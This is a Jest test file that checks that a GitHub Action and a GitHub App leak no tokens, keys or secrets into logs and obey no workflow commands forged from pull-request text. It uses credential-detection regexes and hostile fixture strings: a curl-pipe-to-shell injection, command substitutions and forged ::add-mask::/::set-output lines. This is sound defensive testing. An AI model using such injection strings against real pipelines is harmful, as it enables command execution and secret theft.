/**
 * No credential in any log line. Everything the two GitHub-facing modes
 * print is captured at their most verbose setting and scanned for the
 * secrets they hold:
 *
 * - the Action: the committed bundle, dist/index.js, run as the runner runs
 *   it (test/action/harness.ts) with a distinctive `github-token` and
 *   RUNNER_DEBUG=1, on a pull request whose title and branch name, and whose
 *   report messages, carry shell and workflow-command injections; once
 *   publishing to the fake GitHub, once with GitHub answering 401 Bad
 *   credentials to everything, once with a 500 and a 403. Scanned: stdout,
 *   stderr, the job summary, the outputs file and the verdict JSON, for the
 *   token, its base64 `x-access-token:` form and `token <value>`; and the
 *   runner, reading that output as it does (test/action/workflow-commands.ts),
 *   acts on no command forged from PR or report text.
 * - the App: the real server (a bundle of src/app/serve.ts, as `npm start`
 *   runs it) as a child process with LOG_LEVEL=trace and LOG_FORMAT=json,
 *   through one full evaluation (pull_request, then workflow_run with the
 *   reports artifact) and one with GitHub failing (the installation-token
 *   exchange answering 500 and 401, check-run creation 401). Scanned: every
 *   stdout and stderr line, for every installation token the fake issued,
 *   every JWT and token the App sent in an Authorization header, the webhook
 *   secret, the private key (any run of its base64 body), and the signed
 *   artifact download URLs.
 *
 * A secret counts as leaked when any 24-character run of it appears (so a
 * truncated token or one line of the key is caught too), or when a line
 * holds anything shaped like a GitHub token, a JWT, a PEM private key or an
 * Authorization value. The scanner is checked against lines that do leak,
 * and each capture against the entries it must hold, so that an empty or
 * broken capture cannot pass.
 */
import { generateKeyPairSync, randomBytes } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { startFakeGitHub, sendWebhook, type FailHandle, type FakeGitHub } from '../helpers/github/index.js';
import { OWNER, REPO, pullRequestEvent, runDist, type ActionRun } from '../action/harness.js';
import { runnerCommands } from '../action/workflow-commands.js';
import { FAILING_CONFIG, PRICING, makeWorkspace } from '../action/workspace.js';
import { deliveriesFor, finished, jsonLines, outcomeOf, startApp, startFleet, stopApp, type AppProcess, type Fleet, type FleetPr } from '../app-scale/fleet.js';
import { waitFor } from '../app-scale/support.js';

// ---------------------------------------------------------------- the scanner

interface Secret {
  name: string;
  value: string;
}

/** The shortest run of a secret that counts as a leak. */
const RUN = 24;

/** Credentials of any kind, known to the test or not. */
const CREDENTIAL_SHAPES: [string, RegExp][] = [
  ['GitHub token', /\bgh[opsur]_[A-Za-z0-9]{20,}/],
  ['fine-grained token', /\bgithub_pat_[A-Za-z0-9_]{20,}/],
  ['JWT', /\beyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{16,}/],
  ['PEM private key', /-----BEGIN [A-Z ]*PRIVATE KEY-----/],
  ['Authorization value', /\b(?:token|bearer)\s+(?!\[REDACTED\])(?:gh[opsur]_|github_pat_|eyJ|v1\.)[A-Za-z0-9_.-]{8,}/i],
  ['basic credentials', /\bbasic\s+(?!\[REDACTED\])[A-Za-z0-9+/]{16,}={0,2}/i],
];

class LeakScanner {
  private readonly runs = new Map<string, string>();
  private readonly short: Secret[] = [];

  constructor(secrets: Secret[]) {
    for (const s of secrets) {
      if (s.value.length < RUN) this.short.push(s);
      else {
        for (let i = 0; i + RUN <= s.value.length; i++) {
          const run = s.value.slice(i, i + RUN);
          if (!this.runs.has(run)) this.runs.set(run, s.name);
        }
      }
    }
  }

  /** What leaks in one line: the secrets' names and the credential shapes found, with where the first one starts. */
  scan(line: string): { found: string[]; at: number } {
    const found = new Set<string>();
    let at = -1;
    const hit = (name: string, index: number) => {
      found.add(name);
      if (at < 0 || index < at) at = index;
    };
    for (const s of this.short) if (line.includes(s.value)) hit(s.name, line.indexOf(s.value));
    for (const m of line.matchAll(/[A-Za-z0-9+/=_.-]{24,}/g)) {
      for (let i = 0; i + RUN <= m[0].length; i++) {
        const name = this.runs.get(m[0].slice(i, i + RUN));
        if (name) hit(name, m.index + i);
      }
    }
    for (const [name, re] of CREDENTIAL_SHAPES) {
      const m = re.exec(line);
      if (m) hit(name, m.index);
    }
    return { found: [...found], at };
  }

  /** Every leaking line of a capture, as `where: what: line` (a long line cut around the first leak). */
  leaks(where: string, text: string): string[] {
    const out: string[] = [];
    for (const line of text.split(/\r?\n/)) {
      const { found, at } = this.scan(line);
      if (found.length === 0) continue;
      const from = Math.max(0, at - 200);
      const excerpt = line.length > 500 ? `${from > 0 ? '...' : ''}${line.slice(from, from + 500)}...` : line;
      out.push(`${where}: ${found.join(', ')}: ${excerpt}`);
    }
    return out;
  }
}

/**
 * A token and its base64 `x-access-token:<token>` form (git's basic
 * credentials). `token <t>` and `Bearer <t>` hold the token itself, and any
 * such Authorization value is a credential shape too.
 */
function tokenForms(name: string, token: string): Secret[] {
  return [
    { name, value: token },
    { name: `${name} (base64 x-access-token)`, value: Buffer.from(`x-access-token:${token}`).toString('base64') },
  ];
}

/** A token shaped like an installation token of GitHub Actions' GITHUB_TOKEN. */
function actionToken(): string {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
  return `ghs_${[...randomBytes(36)].map((b) => alphabet[b % alphabet.length]).join('')}`;
}

describe('the leak scanner', () => {
  const token = actionToken();
  const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 1024, privateKeyEncoding: { type: 'pkcs1', format: 'pem' }, publicKeyEncoding: { type: 'spki', format: 'pem' } });
  const body = pemBody(privateKey);
  // The known token starts xxxx, not ghs_, so that its own finding is told apart from the GitHub-token shape.
  const scanner = new LeakScanner([...tokenForms('token', 'x'.repeat(4) + token.slice(4)), { name: 'key', value: body }, { name: 'secret', value: 'hunter2-webhook' }]);

  it('finds a secret, a part of it, or a credential shape in a line', () => {
    const b64 = Buffer.from(`x-access-token:xxxx${token.slice(4)}`).toString('base64');
    const middle = body.slice(500, 540);
    const jwt = `eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiI0MjQyIn0.${'s'.repeat(40)}`;
    const cases: [string, string][] = [
      [`GET /repos/acme/widgets authorization: token xxxx${token.slice(4)}`, 'token'],
      [`the token ends in ${token.slice(10)}`, 'token'],
      [`extraheader = AUTHORIZATION: basic ${b64}`, 'token (base64 x-access-token)'],
      [`{"msg":"key","k":"${middle}"}`, 'key'],
      [`signature computed with hunter2-webhook`, 'secret'],
      [`leaked ${token}`, 'GitHub token'],
      [`authorization: bearer ${jwt}`, 'JWT'],
      [`{"authorization":"Bearer ${jwt}"}`, 'Authorization value'],
      [privateKey.split('\n')[0]!, 'PEM private key'],
    ];
    for (const [line, what] of cases) expect([line, scanner.scan(line).found]).toEqual([line, expect.arrayContaining([what])]);
    expect(scanner.leaks('synthetic', `clean line\n${cases[0]![0]}\nanother clean line`)).toHaveLength(1);
  });

  it('passes lines without secrets', () => {
    for (const line of [
      'authorization: token [REDACTED]',
      '{"headers":{"authorization":"bearer [REDACTED]"}}',
      'the token may not write to acme/widgets (a pull request from a fork): nothing was published',
      `::stop-commands::sdlc-${'0123456789abcdef'.repeat(2)}`,
      'GET /repos/acme/widgets/commits/439c13bf3031be30b53abac139aa8a4d46449703/check-runs - 200',
    ]) {
      expect([line, scanner.scan(line).found]).toEqual([line, []]);
    }
  });
});

function pemBody(pem: string): string {
  return pem
    .split('\n')
    .filter((l) => l && !l.startsWith('-----'))
    .join('');
}

// ---------------------------------------------------------------- the Action

const PWNED = '/tmp/sdlc-secrets-pwned';

/** Text an attacker controls: a pull request's title and branch, and whatever its tools print. */
const HOSTILE = {
  shell: `"; curl http://127.0.0.1:9/x | sh #`,
  subst: `$(touch ${PWNED}) \`touch ${PWNED}\``,
  error: '::error file=forged.js,line=1::forged error',
  mask: 'x\n::add-mask::forged-mask',
  encoded: 'a%0A::set-output name=forged::y%0D%0A::warning::forged',
};
const TITLE = `Fix ${HOSTILE.shell} ${HOSTILE.subst} ${HOSTILE.error} %0A::add-mask::t`;
const BRANCH = `feat/${HOSTILE.shell}$(id)::error file=b::forged%0A::add-mask::b`;
const FORGED = ['forged error', 'forged-mask', 'forged', 'y', 't', 'b'];

/** ESLint's JSON report with the hostile messages on the pull request's added lines (pricing.js 27-33). */
function hostileEslint(): string {
  const messages = [
    { ruleId: 'no-eval', severity: 2, message: HOSTILE.error, line: 27, column: 1 },
    { ruleId: 'rule::add-mask::r', severity: 2, message: HOSTILE.mask, line: 28, column: 1 },
    { ruleId: 'no-eval', severity: 1, message: HOSTILE.shell, line: 29, column: 1 },
    { ruleId: 'no-eval', severity: 1, message: HOSTILE.subst, line: 30, column: 1 },
    { ruleId: 'no-eval', severity: 1, message: HOSTILE.encoded, line: 33, column: 1 },
  ];
  return JSON.stringify([
    {
      filePath: `/work/checkout/${PRICING}`,
      messages,
      suppressedMessages: [],
      errorCount: 2,
      fatalErrorCount: 0,
      warningCount: 3,
      fixableErrorCount: 0,
      fixableWarningCount: 0,
      usedDeprecatedRules: [],
    },
  ]);
}

describe('the bundled Action, debug logging on', () => {
  let fake: FakeGitHub;
  const token = actionToken();
  const scanner = new LeakScanner(tokenForms('github-token', token));

  beforeAll(async () => {
    fake = await startFakeGitHub({ repos: [{ owner: OWNER, repo: REPO, defaultBranch: 'main' }] });
  });
  afterAll(async () => {
    await fake.close();
    expect(existsSync(PWNED)).toBe(false);
  });

  /** One run on a pull request carrying the hostile text, after `setup` (faults) on the fake. */
  async function hostileRun(number: number, setup: () => void = () => {}): Promise<ActionRun> {
    fake.reset();
    const ws = makeWorkspace({ config: FAILING_CONFIG, eslint: hostileEslint() });
    fake.state.addPull({ number, headSha: ws.headSha, baseSha: ws.baseSha, headRef: BRANCH, baseRef: 'main', title: TITLE, body: HOSTILE.mask, files: ws.files });
    setup();
    const event = pullRequestEvent({ number, headSha: ws.headSha, baseSha: ws.baseSha, headRef: BRANCH }) as { pull_request: Record<string, unknown> };
    Object.assign(event.pull_request, { title: TITLE, body: HOSTILE.encoded });
    const run = await runDist({
      workspace: ws.dir,
      eventName: 'pull_request',
      event,
      sha: ws.headSha,
      apiUrl: fake.url,
      inputs: { 'github-token': token },
      env: { RUNNER_DEBUG: '1' },
    });
    // The token really went to GitHub, in the header scanned for.
    expect(fake.calls.length).toBeGreaterThan(0);
    expect(fake.calls.every((c) => c.headers.authorization === `token ${token}`)).toBe(true);
    return run;
  }

  /** Everything the run left for people to read. */
  function leaksOf(run: ActionRun): string[] {
    const verdict = run.outputs['verdict-json'] ? readFileSync(run.outputs['verdict-json'], 'utf8') : '';
    return [
      ...scanner.leaks('stdout', run.stdout),
      ...scanner.leaks('stderr', run.stderr),
      ...scanner.leaks('summary', run.summary),
      ...scanner.leaks('outputs', Object.entries(run.outputs).map(([k, v]) => `${k}=${v}`).join('\n')),
      ...scanner.leaks('verdict JSON', verdict),
    ];
  }

  /** The runner acts on annotations and the failure only, none forged from the hostile text. */
  function expectNoForgedCommands(run: ActionRun): void {
    const { commands, stoppedAtEnd } = runnerCommands(run.stdout + run.stderr);
    expect(stoppedAtEnd).toBe(false);
    expect(commands.length).toBeGreaterThan(0);
    for (const c of commands) {
      expect([c.command, c.properties.file ?? PRICING]).toEqual([expect.stringMatching(/^(error|warning|notice)$/), PRICING]);
      expect(FORGED).not.toContain(c.data);
    }
  }

  it('publishing: the debug log shows every request, and no token', async () => {
    const run = await hostileRun(7);
    expect(run.code).toBe(1);
    expect(fake.state.checkRuns().length).toBe(5);
    expect(fake.state.comments(7)).toHaveLength(1);
    // Debug logging was on: Octokit's request log is in the output.
    expect(run.stdout).toMatch(/debug: POST \/repos\/acme\/widgets\/check-runs - 201/);
    expect(run.summary).toContain('### SDLC verdict: ❌ fail');
    expect(run.outputs.outcome).toBe('fail');
    expect(leaksOf(run)).toEqual([]);
    expectNoForgedCommands(run);
    expect(runnerCommands(run.stdout).commands.map((c) => c.command)).toEqual(['error']);
  }, 90_000);

  it('GitHub answering 401 Bad credentials: the error is printed, the token is not', async () => {
    const run = await hostileRun(8, () => {
      fake.fail({ path: /./, status: 401, times: Infinity, body: { message: 'Bad credentials', documentation_url: 'https://docs.github.com/rest' } });
    });
    expect(run.code).toBe(1);
    expect(run.stdout + run.stderr).toContain('Bad credentials');
    expect(run.summary).toContain('Bad credentials');
    expect(leaksOf(run)).toEqual([]);
    expectNoForgedCommands(run);
    // The hostile messages went out as annotation data, intact.
    const data = runnerCommands(run.stdout).commands.map((c) => c.data);
    expect(data).toEqual(expect.arrayContaining([HOSTILE.error, HOSTILE.mask, HOSTILE.shell, HOSTILE.subst, HOSTILE.encoded]));
  }, 90_000);

  it('GitHub answering 500 and 403: the errors are printed, the token is not', async () => {
    let create500!: FailHandle;
    let comment403!: FailHandle;
    const run = await hostileRun(9, () => {
      create500 = fake.fail({ method: 'POST', path: /\/check-runs$/, status: 500, times: 1, body: { message: `Server Error ${HOSTILE.error}` } });
      comment403 = fake.fail({ method: 'POST', path: /\/issues\/9\/comments$/, status: 403, times: Infinity, body: { message: `Resource not accessible by integration ${HOSTILE.mask}` } });
    });
    expect([create500.hits, comment403.hits]).toEqual([1, 1]);
    expect(run.code).toBe(1);
    expect(run.stdout).toContain('Server Error');
    expect(run.stdout + run.summary).toContain('Resource not accessible by integration');
    expect(leaksOf(run)).toEqual([]);
    expectNoForgedCommands(run);
  }, 120_000);
});

// ---------------------------------------------------------------- the App

describe('the App server, trace logging on', () => {
  const webhookSecret = `whsec-${randomBytes(24).toString('hex')}`;
  const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048, privateKeyEncoding: { type: 'pkcs1', format: 'pem' }, publicKeyEncoding: { type: 'spki', format: 'pem' } });
  let fleet: Fleet;
  let app: AppProcess;

  beforeAll(async () => {
    fleet = await startFleet(2);
    app = await startApp('all', {
      githubUrl: fleet.gh.url,
      concurrency: 2,
      throttle: false,
      extra: { LOG_LEVEL: 'trace', LOG_FORMAT: 'json', PRIVATE_KEY: privateKey, WEBHOOK_SECRET: webhookSecret, JOB_MAX_ATTEMPTS: '5', JOB_RETRY_BASE_MS: '200' },
    });
  }, 60_000);
  afterAll(async () => {
    if (app) await stopApp(app);
    await fleet?.gh.close();
  });

  /** The pull request's opened and completed-run deliveries, the title hostile, signed with our secret. */
  async function evaluate(pr: FleetPr, tag: string): Promise<string[]> {
    const hook = `${app.url}/api/github/webhooks`;
    const sent: string[] = [];
    for (const d of deliveriesFor(pr, tag).filter((x) => !x.redelivery && ['opened', 'run-1'].some((k) => x.deliveryId.endsWith(`-${k}`)))) {
      const pull = (d.payload as { pull_request?: Record<string, unknown> }).pull_request;
      if (pull) pull.title = TITLE;
      const res = await sendWebhook(hook, { event: d.event, payload: d.payload, secret: webhookSecret, deliveryId: d.deliveryId });
      expect(res.status).toBe(202);
      sent.push(d.deliveryId);
    }
    await waitFor(`${pr.fullName} to be evaluated`, () => finished(outcomeOf(fleet.fake, pr)), 60_000);
    return sent;
  }

  /** Every secret the App held or sent: webhook secret, key, JWTs, installation tokens, download URLs. */
  function secrets(): Secret[] {
    const out: Secret[] = [
      { name: 'webhook secret', value: webhookSecret },
      { name: 'private key', value: pemBody(privateKey) },
    ];
    const sent = new Set(fleet.fake.calls.map((c) => c.headers.authorization).filter((a): a is string => typeof a === 'string'));
    for (const auth of sent) {
      const credential = auth.replace(/^(token|bearer)\s+/i, '');
      if (credential.startsWith('eyJ')) out.push({ name: 'JWT', value: credential }, { name: 'JWT signature', value: credential.split('.')[2]! });
      else out.push(...tokenForms('installation token (sent)', credential));
    }
    for (const t of fleet.fake.state.issuedTokens) out.push(...tokenForms('installation token (issued)', t));
    for (const d of fleet.fake.state.downloads.keys()) out.push({ name: 'artifact download URL', value: `/_artifacts/${d}` });
    return out;
  }

  it('a full evaluation and one with GitHub failing log no secret', async () => {
    const [ok, faulty] = fleet.prs as [FleetPr, FleetPr];
    const okDeliveries = await evaluate(ok, 'ok');
    const tokensBefore = fleet.fake.state.issuedTokens.length;

    // The second installation: its token exchange fails (500, then 401), then a check-run create (401).
    const exchange = /\/app\/installations\/\d+\/access_tokens$/;
    const exchange500 = fleet.fake.fail({ method: 'POST', path: exchange, status: 500, times: 1 });
    const exchange401 = fleet.fake.fail({ method: 'POST', path: exchange, status: 401, times: 1, body: { message: 'Bad credentials', documentation_url: 'https://docs.github.com/rest' } });
    const create401 = fleet.fake.fail({ method: 'POST', path: new RegExp(`/repos/${faulty.fullName}/check-runs$`), status: 401, times: 1, body: { message: 'Bad credentials' } });
    const faultyDeliveries = await evaluate(faulty, 'faulty');
    expect([exchange500.hits, exchange401.hits, create401.hits]).toEqual([1, 1, 1]);
    expect(fleet.fake.state.issuedTokens.length).toBeGreaterThan(tokensBefore);

    const log = jsonLines(app) as { level: number; msg?: string; deliveryId?: string }[];
    // The capture holds the run: every delivery's job, the results, the failures, and debug entries.
    const text = app.child.lines.join('\n');
    for (const id of [...okDeliveries, ...faultyDeliveries]) expect(log.some((l) => l.deliveryId === id && l.msg === 'job queued')).toBe(true);
    expect(log.filter((l) => l.msg?.startsWith('published: ')).length).toBeGreaterThanOrEqual(2);
    expect(log.some((l) => l.level <= 20 && l.msg?.startsWith('GitHub request: POST'))).toBe(true);
    expect(log.some((l) => l.level >= 50 && l.msg?.includes('Bad credentials'))).toBe(true);

    const all = secrets();
    const count = (name: string) => all.filter((s) => s.name === name).length;
    expect(count('JWT')).toBeGreaterThan(0);
    expect(count('installation token (sent)')).toBeGreaterThanOrEqual(2);
    expect(count('installation token (issued)')).toBeGreaterThanOrEqual(2);
    expect(count('artifact download URL')).toBeGreaterThanOrEqual(2);
    const scanner = new LeakScanner(all);
    expect(scanner.leaks('App log', text)).toEqual([]);
  }, 180_000);
});
